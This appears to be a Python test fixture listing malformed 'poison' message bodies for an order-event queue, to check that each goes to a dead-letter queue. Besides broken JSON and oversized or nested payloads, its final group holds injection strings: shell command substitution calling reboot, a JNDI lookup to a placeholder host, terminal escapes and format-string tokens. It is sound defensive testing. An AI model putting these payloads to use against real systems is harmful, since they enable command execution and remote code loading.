"""Bodies that can never be an event of an order: each must end as a dead letter, without stopping other messages."""

import base64
import gzip
import json
import zlib

_PEDIDO = {"event_type": "pedido_criado", "data": {"id_pedido": 7, "produtos": [{"id": 1, "quantidade": 1}]}}
_TEXT = json.dumps(_PEDIDO)


def _sns(message: object, **more: str) -> str:
    return json.dumps(
        {"Type": "Notification", "TopicArn": "arn:aws:sns:us-east-1:0:t", "Message": message, **more}
    )


def _event(**data: object) -> str:
    return json.dumps({"event_type": "pedido_criado", "data": data})


def _nested(body: str, times: int) -> str:
    for _ in range(times):
        body = json.dumps({"data": body})
    return body


POISON: tuple[str, ...] = (
    # Not JSON.
    " ",
    "\t\r\n",
    "x",
    "pedido 1001",
    "<pedido><id>1</id></pedido>",
    "id_pedido=1&status=Pronto",
    "id,status\n1,Pronto\n",
    "{",
    "}",
    "[",
    '"',
    _TEXT[:-1],
    _TEXT[: len(_TEXT) // 2],
    _TEXT + "}",
    _TEXT + _TEXT,
    _TEXT.replace('"', "'"),
    _TEXT.replace(":", ":,"),
    "{" + _TEXT,
    "\ufeff\ufeff" + _TEXT,
    '{"id_pedido": NaN}',
    '{"id_pedido": 0x10}',
    '{"id_pedido": 1,}',
    "// an order\n" + _TEXT,
    # Binary, as text.
    base64.b64encode(_TEXT.encode()).decode(),
    base64.b64encode(gzip.compress(_TEXT.encode(), mtime=0)).decode(),
    base64.b64encode(zlib.compress(_TEXT.encode())).decode(),
    base64.b64encode(bytes(range(256))).decode(),
    gzip.compress(_TEXT.encode(), mtime=0).hex(),
    "\ufffd" * 40,
    "\U0001f355" * 40,
    # JSON, but no event.
    "null",
    "true",
    "42",
    "-1e999",
    '""',
    '"pedido"',
    "[]",
    "[[]]",
    "[1, 2, 3]",
    '[["a", "b"], ["c"]]',
    "{}",
    '{"a": 1}',
    '{"data": null}',
    '{"data": []}',
    '{"pedidoId": "7"}',
    # Events without a required field, or with an invalid value.
    _event(),
    _event(id_pedido=None),
    _event(id_pedido=""),
    _event(id_pedido=[1]),
    _event(id_pedido={"id": 1}),
    _event(id_pedido=True),
    _event(id_pedido=7, produtos=[]),
    _event(id_pedido=7, produtos=[{"id": 1, "quantidade": 0}]),
    _event(id_pedido=7, produtos=[{"id": 1, "quantidade": -3}]),
    _event(id_pedido=7, produtos="muitos"),
    '{"event_type": "pedido_criado", "data": {"id_pedido": ' + "9" * 5000 + "}}",
    # Envelopes that are empty, or nested without end.
    _sns(""),
    _sns("x"),
    _sns("null"),
    _sns(_TEXT[:-1]),
    _nested(_TEXT, 9),
    "[" * 20_000,
    '{"data":' * 5_000 + "1" + "}" * 5_000,
    json.dumps(["software.amazon.payloadoffloading.PayloadS3Pointer", {"s3BucketName": "b", "s3Key": "k"}]),
    json.dumps({"event_type": "pedido_criado", "data": {"id_pedido": 7, "obs": "x" * 300_000}}),
    # Texts that attack a terminal, a log or a shell.
    "[31m\u202eorder\u202c",
    "$(reboot); `id`; ${jndi:ldap://example.invalid/a}",
    "%s%s%n{0.__class__}",
)
